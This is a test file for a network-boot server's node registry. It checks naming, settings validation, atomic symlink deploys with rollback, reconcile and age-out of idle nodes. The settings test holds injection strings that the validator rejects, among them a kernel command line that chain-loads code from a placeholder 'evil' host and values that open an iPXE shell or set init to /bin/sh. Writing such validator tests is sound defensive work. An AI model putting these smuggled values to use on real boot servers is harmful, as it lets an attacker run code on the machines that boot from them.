// Node registry against a real data dir and SQLite: names, settings, the atomic symlink flip,
// all-or-nothing deploys, reconcile.
import { addImage } from "./support/images.ts";
import assert from "node:assert/strict";
import {
  existsSync,
  mkdirSync,
  readFileSync,
  readlinkSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { defaultConfig } from "../src/config.ts";
import type { Context } from "../src/context.ts";
import { listEvents } from "../src/events.ts";
import { flipSymlink, linkTarget } from "../src/nodes.ts";
import { closeContext, openContext, type Plugins } from "../src/server.ts";
import { UserError } from "../src/errors.ts";
import { loopExt4, run } from "./support/ext4disk.ts";

async function withCtx(
  fn: (ctx: Context) => Promise<void> | void,
  plugins?: Plugins,
): Promise<void> {
  const dir = await Deno.makeTempDir({ prefix: "nr-nodes-" });
  const ctx = await openContext({ ...defaultConfig(), dataDir: dir }, plugins);
  try {
    await fn(ctx);
  } finally {
    await closeContext(ctx);
    await Deno.remove(dir, { recursive: true });
  }
}

const status = (fn: () => unknown): number => {
  try {
    fn();
  } catch (e) {
    assert.ok(e instanceof UserError, `expected a UserError, got ${e}`);
    return e.status;
  }
  return 0;
};

Deno.test("flipSymlink creates, replaces and removes a relative link, leaving no temp link", async () => {
  const dir = await Deno.makeTempDir({ prefix: "nr-nodes-" });
  try {
    const link = join(dir, "fs");
    flipSymlink(link, "a");
    assert.equal(readlinkSync(link), "a");
    flipSymlink(link, "b");
    assert.equal(readlinkSync(link), "b");
    assert.deepEqual([...Deno.readDirSync(dir)].map((e) => e.name), ["fs"]);
    flipSymlink(link, null);
    assert.equal(existsSync(link) || [...Deno.readDirSync(dir)].length > 0, false);
    flipSymlink(link, null); // removing an absent link is fine
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("flipSymlink: a concurrent reader never sees the link missing", async () => {
  const dir = await Deno.makeTempDir({ prefix: "nr-nodes-" });
  const link = join(dir, "fs");
  flipSymlink(link, "a");
  // A worker thread reads the link in a tight loop while this thread flips it.
  const src = `
    import { readlinkSync } from "node:fs";
    let stop = false, reads = 0, misses = 0;
    self.onmessage = (e) => {
      if (e.data === "stop") { stop = true; return; }
      const loop = () => {
        for (let i = 0; i < 2000; i++) {
          try { readlinkSync(e.data); reads++; } catch { misses++; }
        }
        if (stop) self.postMessage({ reads, misses }); else setTimeout(loop, 0);
      };
      self.postMessage("started");
      loop();
    };`;
  const worker = new Worker(URL.createObjectURL(new Blob([src], { type: "text/javascript" })), {
    type: "module",
  });
  try {
    const started = Promise.withResolvers<void>();
    const done = Promise.withResolvers<{ reads: number; misses: number }>();
    worker.onmessage = (e) => e.data === "started" ? started.resolve() : done.resolve(e.data);
    worker.postMessage(link);
    await started.promise;
    const t0 = performance.now();
    let flips = 0;
    while (performance.now() - t0 < 300) flipSymlink(link, flips++ % 2 ? "a" : "b");
    worker.postMessage("stop");
    const { reads, misses } = await done.promise;
    assert.ok(flips > 100 && reads > 1000, `flips ${flips} reads ${reads}`);
    assert.equal(misses, 0);
  } finally {
    worker.terminate();
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("add: MAC normalised, default and explicit names, conflicts, default image, persist dir", () =>
  withCtx((ctx) => {
    const nodes = ctx.nodes;
    let changes = 0;
    ctx.changes.addEventListener("nodes", () => changes++);
    const a = nodes.add("AA-BB-CC-DD-EE-01");
    assert.equal(a.mac, "aa:bb:cc:dd:ee:01");
    assert.equal(a.name, "node-ddee01");
    assert.equal(a.imageId, null);
    assert.equal(existsSync(ctx.data.nodeFs(a.mac)), false);
    assert.ok(existsSync(ctx.data.persist(a.mac)));
    assert.equal(changes, 1);
    // Same last three bytes: the default name gets a suffix.
    assert.equal(nodes.add("11:22:33:dd:ee:01").name, "node-ddee01-2");
    assert.equal(status(() => nodes.add("aabbccddee01")), 409);
    assert.equal(status(() => nodes.add("aa:bb:cc:dd:ee:02", { name: "node-ddee01" })), 409);
    assert.equal(status(() => nodes.add("not-a-mac")), 400);
    assert.equal(status(() => nodes.add("aa:bb:cc:dd:ee:03", { name: "bad name" })), 400);
    assert.equal(status(() => nodes.add("aa:bb:cc:dd:ee:03", { name: "aabbccddeeff" })), 400);
    assert.equal(status(() => nodes.add("aa:bb:cc:dd:ee:03", { image: "nope" })), 404);

    const def = addImage(ctx, "default");
    const b = nodes.add("aa:bb:cc:dd:ee:04", { name: "rpi4", model: "rpi-4-b" });
    assert.equal(b.imageId, def);
    assert.equal(b.imageName, "default");
    assert.equal(b.model, "rpi-4-b");
    assert.equal(readlinkSync(ctx.data.nodeFs(b.mac)), `../../images/${def}/rootfs`);
    assert.equal(realpathSync(ctx.data.nodeFs(b.mac)), realpathSync(ctx.data.rootfs(def)));

    // Lookups by any MAC spelling or by name.
    assert.equal(nodes.get("AA:BB:CC:DD:EE:04").name, "rpi4");
    assert.equal(nodes.get("aabb.ccdd.ee04").name, "rpi4");
    assert.equal(nodes.get("rpi4").mac, b.mac);
    assert.equal(status(() => nodes.get("ghost")), 404);
    assert.deepEqual(nodes.list().map((n) => n.name), ["node-ddee01", "node-ddee01-2", "rpi4"]);
    assert.equal(listEvents(ctx.db, { mac: b.mac })[0].kind, "node.added");
  }));

Deno.test("register is idempotent and records the first contact", () =>
  withCtx((ctx) => {
    const n = ctx.nodes.register("52:54:00:00:00:01", { via: "dhcp", vendorClass: "PXEClient" });
    assert.equal(ctx.nodes.register("52:54:00:00:00:01", { via: "dhcp" }).name, n.name);
    const kinds = listEvents(ctx.db, { mac: n.mac }).map((e) => e.kind);
    assert.deepEqual(kinds, ["node.added", "node.registered"]);
    assert.deepEqual(listEvents(ctx.db, { mac: n.mac })[1].detail, {
      via: "dhcp",
      vendorClass: "PXEClient",
    });
  }));

Deno.test("rename, ip, touch", () =>
  withCtx((ctx) => {
    const nodes = ctx.nodes;
    nodes.add("52:54:00:00:00:01", { name: "a" });
    nodes.add("52:54:00:00:00:02", { name: "b" });
    assert.equal(nodes.rename("a", "c").name, "c");
    assert.equal(status(() => nodes.rename("c", "b")), 409);
    assert.equal(status(() => nodes.rename("c", "x y")), 400);
    assert.equal(status(() => nodes.rename("a", "d")), 404);
    nodes.setIp("52:54:00:00:00:01", "10.0.0.5");
    nodes.setIp("52:54:00:00:00:02", "10.0.0.5"); // the address moved
    assert.equal(nodes.byIp("10.0.0.5")?.name, "b");
    assert.equal(nodes.get("c").ip, null);
    nodes.touch("52:54:00:00:00:02");
    assert.ok(Date.now() - Date.parse(nodes.get("b").lastSeen!) < 5000);
  }));

// An embedder's setting (plugins.settings): every key under "vnode.".
const vnodeSetting = {
  key: "vnode.",
  check: (key: string, value: string) => {
    if (key === "vnode.cpus" && !/^[1-8]$/.test(value)) throw new UserError(`${key}: 1-8`);
    return value;
  },
};

Deno.test("configure validates every key before writing any; null deletes; plugins add keys", () =>
  withCtx((ctx) => {
    const nodes = ctx.nodes;
    nodes.add("52:54:00:00:00:01", { name: "a" });
    const n = nodes.configure("a", {
      "kernel.cmdline": " quiet loglevel=3 ",
      "boot.mode": "NETWORK",
      "nfs.timeout": "180",
      "tmpfs.size": "50%",
      initramfs: "netroot",
      persist: "false",
    });
    assert.deepEqual(n.settings, {
      "boot.mode": "network",
      "nfs.timeout": "180",
      initramfs: "netroot",
      "kernel.cmdline": "quiet loglevel=3",
      persist: "false",
      "tmpfs.size": "50%",
    });
    for (
      const bad of <Record<string, string>[]> [
        { "boot.mode": "hybrid" },
        { "nfs.timeout": "-1" },
        { "nfs.timeout": "ten" },
        { "tmpfs.size": "150%" },
        { "tmpfs.size": "0" },
        { "kernel.cmdline": "a\nb" },
        // Words the iPXE script's kernel line would run or expand, not pass to the kernel.
        { "kernel.cmdline": "quiet && chain http://evil/x" },
        { "kernel.cmdline": "quiet || shell" },
        { "kernel.cmdline": "quiet ; shell" },
        { "kernel.cmdline": "quiet #" },
        { "kernel.cmdline": "x=${ip}" },
        { persist: "maybe" },
        { colour: "blue" },
        // Below a key that is not a prefix: unknown, not checked as its parent and stored.
        { "kernel.cmdline.x": "init=/bin/sh" },
        { "persist.x": "true" },
      ]
    ) {
      // One valid key alongside the bad one: nothing may be written.
      assert.equal(status(() => nodes.configure("a", { "nfs.timeout": "60", ...bad })), 400);
    }
    assert.equal(nodes.get("a").settings["nfs.timeout"], "180");
    assert.throws(
      () => nodes.configure("a", { colour: "blue" }),
      /unknown setting colour.*boot\.mode/,
    );
    assert.equal(nodes.configure("a", { persist: null }).settings.persist, undefined);

    assert.equal(nodes.configure("a", { "vnode.cpus": "2" }).settings["vnode.cpus"], "2");
    assert.equal(status(() => nodes.configure("a", { "vnode.cpus": "99" })), 400);
    assert.equal(status(() => nodes.configure("a", { vnode: "x" })), 400);
  }, { settings: [vnodeSetting] }));

Deno.test("a plugin's setting is the plugin's server's only", () =>
  withCtx((ctx) => {
    ctx.nodes.add("52:54:00:00:00:01", { name: "a" });
    assert.throws(() => ctx.nodes.configure("a", { "vnode.cpus": "2" }), /unknown setting/);
  }));

Deno.test("deploy: one transaction, links flipped, deploy and reboot events, non-bootable refused", () =>
  withCtx(async (ctx) => {
    const nodes = ctx.nodes;
    const img1 = addImage(ctx, "debian");
    const img2 = addImage(ctx, "alpine");
    const broken = addImage(ctx, "broken", false);
    for (let i = 1; i <= 5; i++) nodes.add(`52:54:00:00:00:0${i}`, { name: `n${i}` });
    const r = await nodes.deploy(["n1", "52-54-00-00-00-02", "n3", "n1"], "debian");
    assert.deepEqual(r.nodes.map((n) => n.name), ["n1", "n2", "n3"]);
    assert.ok(r.nodes.every((n) => n.imageId === img1));
    // No reboot mechanism is registered: each node says so.
    assert.equal(r.reboots.length, 3);
    assert.ok(r.reboots.every((x) => !x.ok && /no reboot mechanism/.test(x.message)));
    for (const n of r.nodes) {
      assert.equal(readlinkSync(ctx.data.nodeFs(n.mac)), linkTarget(img1));
      assert.equal(nodes.currentImageId(n.mac), img1);
      const kinds = listEvents(ctx.db, { mac: n.mac }).map((e) => e.kind);
      assert.deepEqual(kinds, ["node.added", "deploy", "reboot.none"]);
    }
    const ev = listEvents(ctx.db, { mac: r.nodes[0].mac }).find((e) => e.kind === "deploy")!;
    assert.deepEqual(ev.detail, { image: img1, imageName: "debian", previous: null });

    const r2 = await nodes.deploy(["n1"], img2.slice(0, 12), { reboot: false });
    assert.equal(r2.reboots.length, 0);
    assert.equal(nodes.currentImageId("52:54:00:00:00:01"), img2);

    // Refusals change nothing.
    await assert.rejects(nodes.deploy(["n4"], "broken"), /not bootable: no kernel/);
    await assert.rejects(nodes.deploy(["n4", "ghost", "phantom"], "debian"), /ghost, phantom/);
    await assert.rejects(nodes.deploy([], "debian"), /at least one node/);
    await assert.rejects(nodes.deploy(["n4"], "nope"), (e: UserError) => e.status === 404);
    assert.equal(nodes.get("n4").imageId, null);
    assert.equal(existsSync(ctx.data.nodeFs("52:54:00:00:00:04")), false);
    await nodes.deploy(["n4"], "broken", { force: true, reboot: false });
    assert.equal(nodes.get("n4").imageId, broken);
  }));

Deno.test("deploy: a flip failing midway rolls back the rows and restores the flipped links", () =>
  withCtx(async (ctx) => {
    const nodes = ctx.nodes;
    const old = addImage(ctx, "old");
    addImage(ctx, "new");
    for (let i = 1; i <= 4; i++) nodes.add(`52:54:00:00:00:0${i}`, { name: `n${i}`, image: "old" });
    // Node 3's directory is replaced by a plain file: its flip cannot create the temp link.
    const n3 = ctx.data.node("52:54:00:00:00:03");
    rmSync(n3, { recursive: true });
    Deno.writeTextFileSync(n3, "");
    await assert.rejects(nodes.deploy(["n1", "n2", "n3", "n4"], "new"));
    for (const name of ["n1", "n2", "n4"]) {
      const n = nodes.get(name);
      assert.equal(n.imageId, old);
      assert.equal(readlinkSync(ctx.data.nodeFs(n.mac)), linkTarget(old));
    }
    assert.equal(listEvents(ctx.db).filter((e) => e.kind === "deploy").length, 0);
    // The broken node directory is reported, not fatal: a start must still succeed.
    assert.equal(await nodes.reconcile(), 0);
  }));

Deno.test("forget removes row, settings and link, keeps persist data; re-add gets it back", () =>
  withCtx((ctx) => {
    const nodes = ctx.nodes;
    addImage(ctx, "default");
    const n = nodes.add("52:54:00:00:00:01", { name: "a" });
    nodes.configure("a", { persist: "true" });
    Deno.writeTextFileSync(join(ctx.data.persist(n.mac), "notes"), "kept");
    nodes.forget("a");
    assert.equal(nodes.find("a"), undefined);
    assert.equal(
      (ctx.db.prepare("SELECT count(*) AS c FROM node_settings").get() as { c: number }).c,
      0,
    );
    assert.equal(existsSync(ctx.data.nodeFs(n.mac)), false);
    assert.equal(Deno.readTextFileSync(join(ctx.data.persist(n.mac), "notes")), "kept");
    assert.equal(status(() => nodes.forget("a")), 404);
    nodes.add(n.mac);
    assert.equal(Deno.readTextFileSync(join(ctx.data.persist(n.mac), "notes")), "kept");
  }));

Deno.test("reconcile makes the tree say what the database says", () =>
  withCtx(async (ctx) => {
    const nodes = ctx.nodes;
    const a = addImage(ctx, "a");
    const b = addImage(ctx, "b");
    nodes.add("52:54:00:00:00:01", { name: "missing", image: "a" });
    nodes.add("52:54:00:00:00:02", { name: "stale", image: "a" });
    nodes.add("52:54:00:00:00:03", { name: "none" });
    nodes.add("52:54:00:00:00:04", { name: "fine", image: "b" });
    assert.equal(await nodes.reconcile(), 0);
    rmSync(ctx.data.nodeFs("52:54:00:00:00:01"));
    flipSymlink(ctx.data.nodeFs("52:54:00:00:00:02"), linkTarget(b));
    flipSymlink(ctx.data.nodeFs("52:54:00:00:00:03"), linkTarget(b));
    rmSync(ctx.data.persist("52:54:00:00:00:04"), { recursive: true });
    // Leftovers of a crash: a temp link, and a link of a node the database does not know.
    symlinkSync(linkTarget(b), ctx.data.nodeFs("52:54:00:00:00:04") + ".tmp-999");
    mkdirSync(ctx.data.node("52:54:00:00:00:99"));
    symlinkSync(linkTarget(a), ctx.data.nodeFs("52:54:00:00:00:99"));
    assert.equal(await nodes.reconcile(), 6);
    assert.equal(readlinkSync(ctx.data.nodeFs("52:54:00:00:00:01")), linkTarget(a));
    assert.equal(readlinkSync(ctx.data.nodeFs("52:54:00:00:00:02")), linkTarget(a));
    assert.equal(existsSync(ctx.data.nodeFs("52:54:00:00:00:03")), false);
    assert.ok(existsSync(ctx.data.persist("52:54:00:00:00:04")));
    assert.deepEqual(
      [...Deno.readDirSync(ctx.data.node("52:54:00:00:00:04"))].map((e) => e.name).sort(),
      [
        "fs",
        "persist",
      ],
    );
    assert.equal(existsSync(ctx.data.nodeFs("52:54:00:00:00:99")), false);
    assert.equal(await nodes.reconcile(), 0);
    // currentImageId reads the disk first: a hand-edited link shows until reconcile.
    flipSymlink(ctx.data.nodeFs("52:54:00:00:00:01"), linkTarget(b));
    assert.equal(nodes.currentImageId("52:54:00:00:00:01"), b);
    rmSync(ctx.data.nodeFs("52:54:00:00:00:01"));
    assert.equal(nodes.currentImageId("52:54:00:00:00:01"), a);
  }));

Deno.test("ageOut forgets auto-registered nodes that never booted their image, idle past the TTL", () =>
  withCtx((ctx) => {
    const nodes = ctx.nodes;
    const day = 86400;
    const t0 = Date.now();
    const mac = (i: number) => `52:54:00:00:0a:0${i}`;
    nodes.register(mac(1), { via: "dhcp" }); // never seen again
    nodes.register(mac(2), { via: "dhcp" });
    nodes.touch(mac(2)); // fetched its boot script, and one of its boots reached handover
    ctx.db.prepare(
      "INSERT INTO boots (token, mac, image_id, started_at, stage) VALUES ('t2', ?, NULL, ?, 'handover')",
    ).run(mac(2), new Date(t0).toISOString());
    // attacker: a host that changes its MAC fetches each one's script (no boot goes further);
    // before, a script fetch kept a node for good, and registerMax filled up for ever
    nodes.register(mac(7), { via: "dhcp" });
    nodes.touch(mac(7));
    ctx.db.prepare("INSERT INTO boots (token, mac, image_id, started_at) VALUES ('t7', ?, NULL, ?)")
      .run(mac(7), new Date(t0).toISOString());
    nodes.register(mac(3), { via: "dhcp" });
    nodes.configure(mac(3), { "boot.mode": "network" }); // adopted by an admin
    nodes.add(mac(4)); // an admin's node, never booted
    nodes.register(mac(5), { via: "dhcp" });
    writeFileSync(join(ctx.data.persist(mac(5)), "notes"), "kept"); // data in its /persist
    nodes.register(mac(6), { via: "dhcp" });
    // Node 1 had an address (a lease netroot ACKed): its /persist was exported to it.
    nodes.observeAddress(mac(1), "10.0.9.1", "lease");
    assert.ok(nodes.exportTargets().some((t) => t.mac === mac(1) && t.persist));
    assert.equal(nodes.countAutoRegistered(), 5);
    const changes: string[] = [];
    ctx.changes.addEventListener("nodes", (e) => changes.push(e.type));

    assert.deepEqual(nodes.ageOut(day, t0 + (day - 60) * 1000), [], "not idle long enough yet");
    // DHCP traffic keeps a node alive (its last_seen moves): node 6 is still talking.
    ctx.db.prepare("UPDATE nodes SET last_seen = ? WHERE mac = ?")
      .run(new Date(t0 + 12 * 3600_000).toISOString(), mac(6));
    const gone = nodes.ageOut(day, t0 + (day + 60) * 1000);
    assert.deepEqual(gone.sort(), [mac(1), mac(5), mac(7)]);
    const bootsOf = (m: string) =>
      (ctx.db.prepare("SELECT count(*) AS n FROM boots WHERE mac = ?").get(m) as { n: number }).n;
    assert.equal(bootsOf(mac(7)), 0, "its boots went with it");
    assert.equal(bootsOf(mac(2)), 1, "a node that booted keeps them");
    assert.deepEqual(nodes.list().map((n) => n.mac).sort(), [mac(2), mac(3), mac(4), mac(6)]);
    assert.equal(changes.length, 1, "one change event: exports follow");
    assert.ok(!nodes.exportTargets().some((t) => t.mac === mac(1)), "its export is gone");
    // Its fs link and empty directories went with it; a /persist holding data stays.
    assert.equal(existsSync(ctx.data.node(mac(1))), false);
    assert.equal(readFileSync(join(ctx.data.persist(mac(5)), "notes"), "utf8"), "kept");
    assert.equal(existsSync(ctx.data.nodeFs(mac(5))), false);
    assert.deepEqual(listEvents(ctx.db, { mac: mac(1) }).at(-1)?.kind, "node.aged-out");
    // Idle a day and a half: node 6 goes too; the others never do. TTL 0 turns it off.
    assert.deepEqual(nodes.ageOut(0, t0 + 100 * day * 1000), []);
    assert.deepEqual(nodes.ageOut(day, t0 + 100 * day * 1000), [mac(6)]);
    assert.deepEqual(nodes.list().map((n) => n.mac).sort(), [mac(2), mac(3), mac(4)]);
    assert.equal(nodes.countAutoRegistered(), 1);
    // Registering again later is a fresh start.
    assert.equal(nodes.register(mac(1), { via: "dhcp" }).mac, mac(1));
    assert.ok(existsSync(ctx.data.persist(mac(1))));
  }));

Deno.test("ageOut keeps a /persist holding a great many names without listing them (the server's thread)", () =>
  withCtx((ctx) => {
    // An unknown host on the boot network: registered by DHCP, its /persist exported once it has
    // an address; its root fills it with names, then it goes quiet and is aged out.
    const mac = "52:54:00:00:0b:01", day = 86400, t0 = Date.now();
    ctx.nodes.register(mac, { via: "dhcp" });
    ctx.nodes.observeAddress(mac, "10.0.9.2", "lease");
    const dir = ctx.data.persist(mac);
    const name = (i: number) => `${"n".repeat(200)}${i}`;
    for (let i = 0; i < 30_000; i++) Deno.writeFileSync(join(dir, name(i)), new Uint8Array());
    const start = performance.now();
    assert.deepEqual(ctx.nodes.ageOut(day, t0 + (day + 60) * 1000), [mac]);
    const ms = performance.now() - start;
    // Listing them all held the server's only thread (DHCP, HTTP, TFTP) for their number: a
    // million took 11 s and 640 MB; one host with the file system's 16 million inodes, minutes
    // and 10 GB. rmdir says whether a directory is empty without listing it.
    assert.ok(ms < 100, `ageOut took ${ms.toFixed(0)} ms`);
    assert.ok(existsSync(join(dir, name(29_999))), "its data stays");
  }));

Deno.test("deploy (root, loop ext4): a deploy that returned survives a power cut right after", async () => {
  const disk = await loopExt4(64);
  const config = { ...defaultConfig(), dataDir: `${disk.mnt}/data` };
  let ctx = await openContext(config).catch(async (e) => {
    await disk.close();
    throw e;
  });
  try {
    const work = ctx.images.scratch("import");
    mkdirSync(`${work}/rootfs/etc`, { recursive: true });
    writeFileSync(`${work}/rootfs/etc/hostname`, "n1\n");
    const meta = { madeBy: "import" as const, command: null, parent: null };
    const image = await ctx.images.commit(work, "plain", meta);
    ctx.nodes.add("52:54:00:00:00:01", { name: "n1" });
    run("sync");
    // The deploy has returned (the admin saw it done); the power goes then, after a journal
    // commit (ext4's 5 s timer).
    await ctx.nodes.deploy(["n1"], "plain", { reboot: false, force: true });
    disk.journalCommit();
    disk.powerCut();
    await ctx.images.idle().catch(() => {});
    await closeContext(ctx);
    disk.powerOn();
    ctx = await openContext(config);
    assert.equal(ctx.nodes.currentImageId("52:54:00:00:00:01"), image.id);
    assert.equal(readlinkSync(ctx.data.nodeFs("52:54:00:00:00:01")), linkTarget(image.id));
  } finally {
    await ctx.images.idle().catch(() => {});
    await closeContext(ctx);
    await disk.close();
  }
});
